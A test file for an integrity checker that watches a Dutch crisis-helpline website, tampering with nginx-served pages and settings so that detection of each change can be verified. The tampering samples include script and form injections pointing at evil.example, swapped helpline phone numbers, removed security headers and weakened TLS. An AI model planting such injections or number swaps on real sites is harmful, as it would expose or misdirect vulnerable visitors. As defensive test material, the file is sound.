/** Tampers with a site that nginx serves, and looks whether `npm run live-check` tells of it. */

import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server as Net, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import tls from 'node:tls';
import { brotliCompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { checkSite } from '../../scripts/live/check-site.ts';
import type { Expected } from '../../scripts/live/expected.ts';
import { DAY } from '../../src/clock/amsterdam.ts';
import { readContent } from '../../src/data/read-content.ts';
import { MANIFEST, parseManifest } from '../../src/schemas/manifest.ts';
import { FROZEN, changedNumber } from '../fixtures/content.ts';
import { copyProject, removeProject } from '../fixtures/copy-project.ts';
import { DIST, readBuilt } from '../fixtures/dist.ts';
import { findNginx } from './find-nginx.ts';
import { freePort, makeCertificate } from './loopback.ts';
import { startNginx, type Server } from './start-nginx.ts';

const { words, ...record } = readContent(FROZEN);
if (!words) throw new Error(JSON.stringify(record.problems));
const manifest = parseManifest(readBuilt(MANIFEST));
const expected: Expected = {
  content: { ...record, words },
  settings: { url: 'http://localhost:4321', host: undefined, shelfLifeDays: 180 },
  manifest,
  folder: DIST,
  http: undefined,
  now: Date.now(),
};

/** What is found wrong with a server, a row each. */
async function check({ http, https }: Server, change: Partial<Expected> = {}) {
  const plain = new URL(`http://localhost:${http}/`);
  const address = new URL(`https://localhost:${https}/`);
  const { rows } = await checkSite(address, { ...expected, http: plain, ...change });
  return rows.map((row) => row.replaceAll(`${http}`, 'PORT').replaceAll(`${https}`, 'PORT'));
}

/** Serves the site as it should be, at the name of this machine, for a year. */
async function start(
  extra: Record<string, string> = {},
  days = 365,
  change = (published: string) => published,
): Promise<Server> {
  const nginx = findNginx();
  if (!nginx) throw new Error('no nginx');
  const server = await startNginx(nginx, extra, days, (published) =>
    change(published.replaceAll('voorbeeld.nl', 'localhost')),
  );
  const own = readFileSync(`${server.folder}/fullchain.pem`, 'utf8');
  tls.setDefaultCACertificates([...tls.getCACertificates('default'), own]);
  return server;
}

/** Changes a file in all its forms, or takes it away. */
function tamper(server: Server, file: string, change: (text: string) => string | undefined): void {
  const target = path.join(server.folder, 'site', file);
  const changed = change(readFileSync(target, 'latin1'));
  rmSync(target);
  for (const form of ['.br', '.gz']) rmSync(target + form, { force: true });
  if (changed !== undefined) writeFileSync(target, changed, 'latin1');
}

const before = (mark: string, what: string) => (html: string) =>
  html.replace(mark, () => what + mark);

/** What is done to a file, and the row that tells of it. */
const FILES: [file: string, change: (text: string) => string | undefined, row: string | RegExp][] =
  [
    [
      'index.html',
      before('</body>', '<script src="https://evil.example/x.js"></script>'),
      '/: anders dan gebouwd; erbij gekomen: <script src="https://evil.example/x.js">',
    ],
    [
      'over/index.html',
      before('</body>', '<script>fetch("//evil.example")</script>'),
      '/over/: anders dan gebouwd; erbij gekomen: <script>fetch("//evil.example")',
    ],
    [
      'wat-nu/index.html',
      before('</main>', '<iframe src="https://evil.example/">'),
      '/wat-nu/: anders dan gebouwd; erbij gekomen: <iframe src="https://evil.example/">',
    ],
    [
      'privacy/index.html',
      (html) => html.replace('<body', '<body onload="spy()"'),
      /^\/privacy\/: .*erbij gekomen: <body onload="spy\(\)"/,
    ],
    [
      'rooster/index.html',
      before('</head>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
      /^\/rooster\/: .*erbij gekomen: <meta http-equiv="refresh"/,
    ],
    [
      'waarom/index.html',
      before('</head>', '<link rel="stylesheet" href="https://evil.example/x.css">'),
      /^\/waarom\/: .*erbij gekomen: <link rel="stylesheet"/,
    ],
    [
      'toegankelijkheid/index.html',
      before('</main>', '<form action="https://evil.example/"><input name="naam"></form>'),
      /^\/toegankelijkheid\/: .*<form action="https:\/\/evil.example\/">, <input name="naam">/,
    ],
    [
      'hulplijnen/ivp/index.html',
      (html) => html.replaceAll('tel:+31208407620', 'tel:+31208407621'),
      /^\/hulplijnen\/ivp\/: belt \+31208407621; dat nummer staat niet in content\//,
    ],
    [
      'hulplijnen/113/index.html',
      (html) => html.replaceAll('href="tel:113"', 'href="tel:112"'),
      /^\/hulplijnen\/113\/: ".*113.*" belt 112/,
    ],
    [
      'hulplijnen/politie/index.html',
      before('</main>', '<p>Bel 06 12 34 56 78</p>'),
      /^\/hulplijnen\/politie\/: .*06 12 34 56 78/,
    ],
    [
      'hulplijnen/schadefonds/index.html',
      (html) => html.replace('</h1>', ' (opgeheven)</h1>'),
      /^\/hulplijnen\/schadefonds\/: anders dan gebouwd; andere woorden: ".*\(opgeheven\)/,
    ],
    [
      'hulplijnen/112/index.html',
      (html) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''),
      '/hulplijnen/112/: er staat geen Content-Security-Policy in de pagina',
    ],
    [
      'hulplijnen/luisterlijn/index.html',
      (html) => html.replace(/<footer.*<\/footer>/s, ''),
      /^\/hulplijnen\/luisterlijn\/: anders dan gebouwd; weg: </,
    ],
    [
      'maatregelen/doxing/index.html',
      (html) => html + '<div>'.repeat(50_000),
      '/maatregelen/doxing/: de nummers in deze pagina zijn niet te lezen',
    ],
    [
      'maatregelen/meldpunt/index.html',
      (html) => html + '1'.repeat(200_000),
      '/maatregelen/meldpunt/: de nummers in deze pagina zijn niet te lezen',
    ],
    ['maatregelen/ela/index.html', () => undefined, '/maatregelen/ela/: ontbreekt'],
    ['404.html', () => 'Niets', /^\/bestaat-niet-\w+\/: anders dan gebouwd/],
    ['sw.js', (code) => `${code};importScripts("/x.js")`, '/sw.js: anders dan gebouwd'],
    ['offline.json', (json) => json.replace('20', '21'), '/offline.json: anders dan gebouwd'],
    ['zakkaart/kaart.pdf', (pdf) => `${pdf} `, '/zakkaart/kaart.pdf: anders dan gebouwd'],
    ['robots.txt', () => 'Disallow: /', '/robots.txt: anders dan gebouwd'],
    ['social.png', () => '', '/social.png: anders dan gebouwd'],
    [
      'contact/ivp.vcf',
      (vcf) => vcf.replaceAll('+31208407620', '+31900123456'),
      '/contact/ivp.vcf: belt +31900123456; dat nummer staat niet in content/',
    ],
    [
      'nummers.json',
      (json) => json.replace(/"tel": ?"113"/, '"tel":"112"'),
      /^\/nummers\.json: anders dan in content\/: 113, /,
    ],
    [
      'build.json',
      (json) => json.replace(/"sw.js": "\w{4}/, '"sw.js": "0000'),
      '/build.json: noemt andere hashes dan de bouw',
    ],
  ];

/** What is changed in the file of nginx, or in its headers, and the row that tells of it. */
const SETTINGS: [find: string | RegExp, replace: string, row: string | RegExp][] = [
  [
    /(include .*headers\.conf;)/,
    '$1 add_header Set-Cookie "id=1";',
    /^\/\S* en \d+ andere: extra header set-cookie: id=1$/,
  ],
  [
    'ssl_protocols TLSv1.2',
    'ssl_protocols TLSv1 TLSv1.1 TLSv1.2',
    'TLS: de server neemt het oude TLSv1 nog aan',
  ],
  [/ssl_ciphers /, 'ssl_ciphers ALL:@SECLEVEL=0:', 'TLS: de server neemt het oude TLSv1.1 nog aan'],
  [
    'return 301 https://$server_name$request_uri;',
    'return 302 https://$server_name$request_uri;',
    'http://localhost:PORT: leidt niet voorgoed (301) naar https, maar: https://localhost/over/',
  ],
  [
    'error_page 404 /404.html;',
    'error_page 404 =200 /404.html;',
    /^\/bestaat-niet-\w+\/: antwoord 200 in plaats van 404$/,
  ],
  [
    'location = /404.html {',
    'location = /over { return 301 http://localhost$uri/; } location = /404.html {',
    '/over: leidt niet naar /over/, maar: http://localhost/over/',
  ],
  [
    'location = /404.html {',
    'location = /over/ { return 302 https://evil.example/; } location = /404.html {',
    '/over/: stuurt door naar https://evil.example/',
  ],
];
const HEADERS: [find: string | RegExp, replace: string, row: string | RegExp][] = [
  [/add_header X-Frame-Options.*/g, '', /^\/\S* en \d+ andere: header X-Frame-Options ontbreekt$/],
  [
    /no-referrer/g,
    'unsafe-url',
    /^\/\S* en \d+ andere: header Referrer-Policy is "unsafe-url", verwacht: "no-referrer"$/,
  ],
  [
    /default-src 'none'/g,
    'default-src *',
    /andere: header Content-Security-Policy is "default-src \*;script-src/,
  ],
  ['"text/html; charset=utf-8" html;', '"text/plain" html;', /Content-Type is text\/plain/],
];

/** Listens, and does with whoever comes what is asked; returns its address. */
async function listen(answer: (socket: Socket) => void): Promise<string> {
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    answer(socket);
  });
  return addressOf(server);
}

async function addressOf(server: Net): Promise<string> {
  server.listen(0, '127.0.0.1').unref();
  await once(server, 'listening');
  const address = server.address();
  return `https://localhost:${typeof address === 'object' ? address?.port : ''}`;
}

// It takes all of its ten seconds, beside the other tests.
const slow = listen(() => undefined).then((address) => checkSite(new URL(address), expected));

const nginx = findNginx();
describe.skipIf(!nginx)('a site that is live', () => {
  const servers: Server[] = [];
  let tampered: string[];
  let misconfigured: string[];
  let good: Server;
  beforeAll(async () => {
    good = await start();
    const bad = await start();
    for (const [file, change] of FILES) tamper(bad, file, change);
    writeFileSync(`${bad.folder}/site/icon-512.png.br`, brotliCompressSync('niets'));
    writeFileSync(`${bad.folder}/site/geen-verbinding/index.html.br`, brotliCompressSync('niets'));
    const replaceAll = (source: string, all: typeof SETTINGS) =>
      all.reduce((conf, [find, replace]) => conf.replace(find, replace), source);
    const headers = replaceAll(readBuilt('.nginx/headers.conf'), HEADERS);
    const wrong = await start({ 'site/.nginx/headers.conf': headers }, 10, (published) =>
      replaceAll(published, SETTINGS),
    );
    servers.push(good, bad, wrong);
    tampered = await check(bad);
    misconfigured = await check(wrong);
  }, 60_000);
  afterAll(async () => {
    for (const server of servers) await server.stop();
  });

  const expectRow = (rows: readonly string[], row: string | RegExp) => {
    expect(rows).toContainEqual(typeof row === 'string' ? row : expect.stringMatching(row));
  };

  test('as it was built: nothing to tell', async () => {
    expect(await check(good)).toEqual([]);
  });

  test.each(FILES)('%s is not as it was', (_, __, row) => {
    expectRow(tampered, row);
  });

  test('only what was compressed is not as it was', () => {
    expectRow(tampered, /^\/geen-verbinding\/: anders dan gebouwd.*\(alleen bij br\)$/);
  });

  test('and nothing else is told', () => {
    const places = [...FILES.map(([file]) => file), 'geen-verbinding/index.html'];
    const known = places.map((file) => `/${file.replace(/index\.html$/, '')}`);
    const others = tampered.filter((row) => !known.some((place) => row.startsWith(`${place}: `)));
    expect(others).toEqual([
      expect.stringMatching(/^\/bestaat-niet-/),
      '/icon-512.png: anders dan gebouwd (alleen bij br)',
      expect.stringMatching(/^\/bestaat-niet-.*: er staat geen Content-Security-Policy/),
    ]);
  });

  test.each([...SETTINGS, ...HEADERS])('%s became %s', (_, __, row) => {
    expectRow(misconfigured, row);
  });

  test('a certificate that ends within a month', () => {
    expectRow(misconfigured, /^certificaat: loopt af op \d{4}-\d\d-\d\d; verleng het vandaag nog$/);
  });

  test.each([
    [365, 40, false],
    [365, 25, true],
    [90, 30, false],
    [90, 27, true],
    [45, 15, false],
    [45, 13, true],
    [10, 10, true],
  ])('a certificate for %i days with %i left: told of is %o', async (days, left, isTold) => {
    const server = await start({}, days);
    servers.push(server);
    const rows = await check(server, { now: Date.now() + (days - left) * DAY });
    expect(rows.some((row) => row.startsWith('certificaat: loopt af'))).toBe(isTold);
  });

  test('a host that sends no headers, or one of its own, is not blamed for that', async () => {
    const [, , wrong] = servers;
    const on = async (host: string) =>
      wrong ? check(wrong, { settings: { ...expected.settings, host } }) : [];
    expect((await on('github-pages')).filter((row) => row.includes('header'))).toEqual([]);
    expect(await on('rsync')).toContainEqual(expect.stringContaining('X-Frame-Options ontbreekt'));
  });

  test('a manifest that is gone, also when nothing else is', async () => {
    const { rows } = await lacking(MANIFEST);
    expectRow(rows, '/build.json: ontbreekt of is onleesbaar');
  });

  test('another build than the one that should be there', async () => {
    if (!manifest) throw new Error('no manifest');
    const newer = { ...manifest, builtAt: '2099-01-01T00:00:00Z' };
    expect(await check(good, { manifest: newer })).toEqual([
      `/build.json: live staat de bouw van ${manifest.builtAt}, niet die van 2099-01-01T00:00:00Z`,
    ]);
  });

  test('a copy of somebody else: only numbers, headers and what ends', async () => {
    const settings = { ...expected.settings, url: 'https://eigen.voorbeeld' };
    const own = { settings, manifest: undefined };
    expect(await check(good, own)).toEqual([]);
    const later = await check(good, { ...own, now: Date.now() + 330 * DAY });
    expect(later).toEqual([expect.stringMatching(/^te laat: De site is van/)]);
    const bad = servers[1];
    const rows = bad ? await check(bad, own) : [];
    expectRow(rows, /^\/hulplijnen\/ivp\/: belt \+31208407621/);
    expectRow(rows, /^\/contact\/ivp\.vcf: belt \+31900123456/);
    expect(rows.join('\n')).not.toMatch(/anders dan gebouwd|sw\.js/);
  });

  test('a number that changed in the record, and not yet on the site', async () => {
    const lines = record.lines.map((line) => {
      const numbers = line.data.numbers.map((one) =>
        one.tel === '+31208407620' ? changedNumber(one, { number: '0208407621' }) : one,
      );
      return { ...line, data: { ...line.data, numbers } };
    });
    const rows = await check(good, { content: { ...record, words, lines } });
    expectRow(rows, /^\/\S* en \d+ andere: belt \+31208407620; dat nummer staat niet in content\//);
    expectRow(
      rows,
      /^\/nummers\.json: anders dan in content\/: IVP, .*840 76 20 wordt 020 - 840 76 21/,
    );
  });

  test('a year later, when nobody built it again', async () => {
    const rows = await check(good, { now: Date.now() + 400 * DAY });
    expectRow(rows, /^te laat: De site is van .*; bouw haar elk jaar opnieuw\. Bouw en publiceer/);
    expectRow(rows, /^te laat: security\.txt geldt tot/);
    expectRow(rows, /^certificaat: loopt af/);
  });

  /** What is told of the site without one of its files. */
  async function lacking(file: string) {
    const server = await start();
    servers.push(server);
    tamper(server, file, () => undefined);
    return { rows: await check(server) };
  }
});

describe('a host that is', () => {
  let folder: string;
  beforeAll(() => {
    folder = copyProject();
  });
  afterAll(() => {
    removeProject(folder);
  });

  /** Runs the command on a folder with the content of the tests. */
  async function run(
    address: string,
    environment: Record<string, string> = {},
    flags: readonly string[] = [],
  ) {
    const command = [path.join(folder, 'scripts/live-check.ts'), address, ...flags];
    const child = spawn(process.execPath, command, {
      cwd: folder,
      env: { ...process.env, ...environment },
    });
    const [said, cried] = await Promise.all([text(child.stdout), text(child.stderr)]);
    if (child.exitCode === null) await once(child, 'exit');
    return { code: child.exitCode, said: said.trim(), cried };
  }

  /** Says the same to whoever comes, over TLS; returns its address. */
  async function speak(words: string): Promise<string> {
    const own = mkdtempSync(path.join(tmpdir(), 'speak-'));
    makeCertificate(own, 90);
    const [key, cert] = ['privkey', 'fullchain'].map((name) =>
      readFileSync(`${own}/${name}.pem`, 'utf8'),
    );
    rmSync(own, { recursive: true });
    tls.setDefaultCACertificates([...tls.getCACertificates('default'), cert ?? '']);
    return addressOf(
      tls.createServer({ key, cert }, (socket) => {
        socket.on('error', () => undefined);
        socket.once('data', () => socket.end(words));
      }),
    );
  }

  test.concurrent.each<[string, () => Promise<string>, RegExp]>([
    [
      'down',
      async () => `https://localhost:${await freePort()}`,
      /: op dit adres draait geen server$/,
    ],
    [
      'sending rubbish',
      () => listen((socket) => socket.end('\u0000rubbish\r\n')),
      /: de server spreekt geen TLS 1\.2 of 1\.3$/,
    ],
    [
      'hanging up',
      () => listen((socket) => socket.destroy()),
      /: de server breekt de verbinding af$/,
    ],
    [
      'sending rubbish once it is greeted',
      () => speak('rubbish\r\n\r\n'),
      /: het antwoord is geen HTTP$/,
    ],
    [
      'compressing in a way of its own',
      () => speak('HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 7\r\n\r\nnotgzip'),
      /: de compressie van het antwoord is stuk$/,
    ],
    [
      'leading elsewhere',
      () => speak('HTTP/1.1 302 Found\r\nLocation: https://evil.example/\r\n\r\n'),
      /: stuurt door naar https:\/\/evil\.example\/$/,
    ],
    [
      'no copy at all',
      () => speak('HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nlogin'),
      /: dit is geen kopie van deze site: zij heeft geen nummers\.json$/,
    ],
  ])('%s is told in one row', async (_, address, row) => {
    const { rows } = await checkSite(new URL(await address()), expected);
    expect(rows).toEqual([expect.stringMatching(row)]);
  });

  test('slow is told in one row', async () => {
    expect((await slow).rows).toEqual([
      expect.stringMatching(/: geen antwoord binnen 10 seconden$/),
    ]);
  });

  const withNginx = nginx ? test.concurrent : test.skip;
  withNginx(
    'trusted only by NODE_EXTRA_CA_CERTS is told, and checked with it',
    async ({ onTestFinished }) => {
      const server = await startNginx(nginx ?? { command: '', brotli: '' }, {}, 365);
      onTestFinished(() => server.stop());
      const address = `https://localhost:${server.https}`;
      const { code, said, cried } = await run(address);
      expect([code, said, cried]).toEqual([
        1,
        `${address}: het certificaat is niet te vertrouwen`,
        '',
      ]);
      const trusted = await run(address, {
        NODE_EXTRA_CA_CERTS: `${server.folder}/fullchain.pem`,
        SITE_URL: 'https://eigen.voorbeeld',
      });
      expect(trusted.said).toMatch(
        /: alles klopt \(gebouwd door een ander; \d+ adressen nagekeken\)\.$/,
      );
      expect(trusted.code).toBe(0);
    },
  );

  test.concurrent.each([
    [''],
    ['http://voorbeeld.nl'],
    ['https://naam:geheim@voorbeeld.nl'],
    ['https://voorbeeld.nl', '--http', 'x'],
  ])('not one that can be checked: "%s" %s %s', async (address, ...flags) => {
    const { code, cried } = await run(address, {}, flags);
    expect(code).toBe(1);
    expect(cried).toMatch(/^Gekregen: .*Verwacht: npm run live-check -- https:/);
  });
});
